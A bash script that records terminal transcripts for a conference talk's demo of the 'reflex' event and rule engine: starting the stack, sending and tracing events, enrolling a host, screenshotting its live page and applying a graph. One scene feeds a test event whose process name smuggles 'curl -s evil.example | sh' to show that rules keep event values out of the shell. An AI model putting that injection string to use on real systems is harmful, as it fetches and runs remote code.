#!/usr/bin/env bash
# Record the demo transcripts the deck shows, from a real run: `reflex up` in a throwaway
# folder on free ports, then send, tail, trace, a repair, a correlation through a register, the
# shell-safety check, and `reflex apply` of the talk's graph. Each scene is written to
# slides/transcripts/NN-name.txt: a line "$ command" as it was run (with `reflex` on PATH:
# a copy of the release binary), then exactly what it printed. Two things are changed, both
# at record time: the live page's token is replaced by "…", and the throwaway folder's name
# is kept as it was (it is /tmp/talk.XXXXXX). Everything started here is stopped on exit,
# failure or Ctrl-C. `./build --record` runs it.
set -euo pipefail
here="$(cd "$(dirname "$0")/.." && pwd)"
repo="$(cd "$here/.." && pwd)"
src="${REFLEX:-$repo/target/release/reflex}"
[ -x "$src" ] || { echo "record: no reflex binary at $src (cargo build --release)" >&2; exit 1; }
out="$here/transcripts"
mkdir -p "$out" "$here/data"

T="$(mktemp -d /tmp/talk.XXXXXX)"
pids=()
rollback_existed=0
[ -e /tmp/reflex-rollback ] && rollback_existed=1
cleanup() {
  local rc=$?
  set +e
  # Each process this script started, by its pid; `reflex up` stops its parts on SIGINT.
  for p in "${pids[@]}"; do kill -INT "$p" 2>/dev/null; done
  for _ in $(seq 50); do
    local alive=0
    for p in "${pids[@]}"; do kill -0 "$p" 2>/dev/null && alive=1; done
    [ $alive = 0 ] && break
    sleep 0.1
  done
  for p in "${pids[@]}"; do
    for c in $(pgrep -P "$p" 2>/dev/null); do kill -KILL "$c" 2>/dev/null; done
    kill -KILL "$p" 2>/dev/null
  done
  [ $rollback_existed = 0 ] && rm -f /tmp/reflex-rollback
  rm -rf "$T" /tmp/reflex-talk-app
  rm -f "$out"/*.new "$here"/data/*.new
  [ $rc = 0 ] || echo "record: failed (rc $rc); nothing of the run is left behind" >&2
  exit $rc
}
trap cleanup EXIT
trap 'exit 130' INT TERM

mkdir -p "$T/bin"
cp "$src" "$T/bin/reflex"
export PATH="$T/bin:$PATH"
export RUST_LOG=error
cd "$T"

# The default port base when all its ports are free, else the first free one above 20000.
port_free() { ! (exec 3<>"/dev/tcp/127.0.0.1/$1") 2>/dev/null; }
base_free() { local i; for i in $(seq 0 9); do port_free $(($1 + i)) || return 1; done; }
base=4510
if ! base_free $base; then
  base=20010
  until base_free $base; do base=$((base + 37)); done
fi
pb=""
[ $base = 4510 ] || pb=" --port-base $base"

# scene FILE: start a transcript. run CMD [RC]: append "$ CMD" and what it prints (stdout,
# stderr); the recording fails unless CMD exits RC (default 0).
scene() { cur="$out/$1.txt"; : >"$cur.new"; scenes+=("$1"); }
run() {
  echo "\$ $1" >>"$cur.new"
  local rc=0
  bash -c "$1" >>"$cur.new" 2>&1 || rc=$?
  [ "$rc" = "${2:-0}" ] || { echo "record: \"$1\" exited $rc, not ${2:-0}" >&2; cat "$cur.new" >&2; return 1; }
}
scenes=()
wait_for() { # file, text, seconds
  for _ in $(seq $(($3 * 10))); do grep -q "$2" "$1" 2>/dev/null && return 0; sleep 0.1; done
  echo "record: no \"$2\" in $1 within $3 s" >&2; cat "$1" >&2; return 1
}
start_tail() { # the tail's transcript, from a `reflex tail` started now
  echo "\$ reflex tail$pb" >"$1"
  reflex tail$pb >>"$1" 2>/dev/null &
  tailpid=$!
  pids+=("$tailpid")
  sleep 1.5 # a SUB socket takes a moment to join
}

# 1. The stack.
echo "record: reflex up$pb in $T" >&2
reflex up$pb >"$T/up.out" 2>"$T/up.log" &
up=$!
pids+=("$up")
wait_for "$T/up.out" "reflex is up" 30
scene 01-up
echo "\$ reflex up$pb" >>"$cur.new"
sed -E 's/token=[0-9a-f]+/token=…/' "$T/up.out" >>"$cur.new"
sleep 3 # the actor and the beacons enroll and say hello

# Each part's memory while idle (PSS: shared pages split among the processes that share them),
# before any event is sent: data/memory-idle.txt.
{
  echo "part        pss_kb    rss_kb"
  for c in $up $(pgrep -P "$up"); do
    part="$(tr '\0' ' ' <"/proc/$c/cmdline" | awk '{print $2}')"
    pss="$(awk '/^Pss:/ {print $2}' "/proc/$c/smaps_rollup")"
    rss="$(awk '/^VmRSS:/ {print $2}' "/proc/$c/status")"
    printf '%-10s %8s %9s\n' "$part" "$pss" "$rss"
  done
} >"$here/data/memory-idle.txt.new"

# 2. A hello, kept: the file is made, then deleted and edited behind the engine's back.
start_tail "$out/03-tail-hello.txt.new"
scene 02-hello
run "reflex send demo/hello path=$T/hello text=hi$pb"
id="$(tail -n1 "$cur.new")"
sleep 1
run "cat $T/hello; echo"
run "rm $T/hello; sleep 1; cat $T/hello; echo"
run "echo tampered > $T/hello; sleep 1; cat $T/hello; echo"
sleep 1
kill -INT "$tailpid"; wait "$tailpid" 2>/dev/null || true
scenes+=(03-tail-hello)

scene 04-trace-hello
run "reflex trace $id"

# 3. Two events, one action: a deploy, then its host's HTTP check failing within 30 s.
start_tail "$out/06-tail-correlate.txt.new"
scene 05-correlate
run "reflex send deploy/finished version=1.2.3$pb"
run "reflex send beacon/http --data '{\"ok\": false, \"status\": 502}'$pb"
bad="$(tail -n1 "$cur.new")"
sleep 1
run "reflex registers list deploy/$pb"
run "cat /tmp/reflex-rollback"
sleep 1
kill -INT "$tailpid"; wait "$tailpid" 2>/dev/null || true
scenes+=(06-tail-correlate)

# 4. A second host enrolls (pending until accepted, with its group), then dies (kill -9): the
# manager says host/web2/down after its missed heartbeats, and rule 95 keeps it and alerts.
web2_args="--name web2 --state web2 --manager-key .reflex/keys/manager.pub --sign-key .reflex/keys/sign.pub$pb"
start_tail "$out/08-tail-host-down.txt.new"
scene 07-enroll
echo "\$ reflex actor $web2_args &" >>"$cur.new"
RUST_LOG=warn reflex actor $web2_args >"$T/web2.out" 2>"$T/web2.log" & # it says it waits
web2=$!
pids+=("$web2")
wait_for "$T/web2.log" "waiting to be accepted" 20
sed -E 's/\x1b\[[0-9;]*m//g' "$T/web2.log" | grep -m1 'waiting to be accepted' >>"$cur.new"
run "reflex keys list$pb"
run "reflex keys accept web2 --group web$pb"
wait_for "$out/08-tail-host-down.txt.new" "host/web2/up" 40
scene 09-host-down
run "kill -9 $web2"
wait "$web2" 2>/dev/null || true
wait_for "$out/08-tail-host-down.txt.new" "alert/host/down" 30
sleep 0.5
run "reflex registers list hosts/$pb"
kill -INT "$tailpid"; wait "$tailpid" 2>/dev/null || true
scenes+=(08-tail-host-down)

# 5. The live page reflex up serves (loopback, with the token from the state dir), opened at
# the hello event's trace, as a browser shows it: data/live-page.png.
command -v chromium >/dev/null || { echo "record: chromium is missing (the live page's picture)" >&2; exit 1; }
sleep 1
chromium --headless --no-sandbox --disable-gpu --disable-quic --no-first-run \
  --disable-background-networking --disable-component-update --disable-sync \
  --user-data-dir="$T/chromium" --hide-scrollbars --virtual-time-budget=5000 \
  --window-size=1280,800 --screenshot="$T/live-page.png" \
  "http://127.0.0.1:$((base + 7))/?token=$(cat .reflex/http.token)#trace=$id" >/dev/null 2>&1
[ -s "$T/live-page.png" ] || { echo "record: no picture of the live page" >&2; exit 1; }

# The stack is done: Ctrl-C, as an operator would.
for p in "${pids[@]}"; do kill -INT "$p" 2>/dev/null || true; done
for p in "${pids[@]}"; do wait "$p" 2>/dev/null || true; done
pids=()

# 6. No event value becomes shell syntax (offline: the manager's own rule engine).
cd "$repo"
hostile='{"tag": "beacon/proc", "host": "web1", "data": {"name": "nginx; curl -s evil.example | sh", "present": false}}'
scene 10-unsafe
run "reflex rules check slides/demo/"
run "reflex rules test slides/demo/unsafe-restart.rhai --event '$hostile'" 1
scene 11-argv
run "reflex rules test rules/60-restart-down.rhai --event '$hostile'"
scene 12-action
run "reflex rules test rules/60-restart-down.rhai --event '{\"tag\": \"beacon/proc\", \"host\": \"web1\", \"data\": {\"name\": \"nginx\", \"present\": false}}'"

# 7. The talk's graph, converged for real; the engine writes its DOT once everything settled.
rm -rf /tmp/reflex-talk-app
scene 13-apply
run "reflex apply slides/graphs/app.yaml --converged-timeout 1 --graphviz slides/data/app.dot"
run "ls -l /tmp/reflex-talk-app/"
command -v dot >/dev/null || { echo "record: graphviz's dot is missing" >&2; exit 1; }
dot -Tsvg "$here/data/app.dot" -o "$here/data/app.svg"

for s in "${scenes[@]}"; do mv "$out/$s.txt.new" "$out/$s.txt"; done
# Transcripts of scenes this script no longer records go.
for f in "$out"/*.txt; do
  n="$(basename "$f" .txt)"
  [ "$n" = meta ] || [[ " ${scenes[*]} " == *" $n "* ]] || rm -f "$f"
done
mv "$here/data/memory-idle.txt.new" "$here/data/memory-idle.txt"
mv "$T/live-page.png" "$here/data/live-page.png"
{
  echo "date: $(date -u +%Y-%m-%dT%H:%M:%SZ)"
  echo "commit: $(git -C "$repo" rev-parse --short HEAD)"
  echo "binary: $("$src" --version), built $(stat -c %y "$src" | cut -d. -f1)"
  echo "tree: $(git -C "$repo" status --porcelain --untracked-files=no -- . ':!slides' | wc -l) tracked files outside slides/ modified"
  echo "port base: $base"
} >"$out/meta.txt"
echo "record: ${#scenes[@]} transcripts in $out" >&2
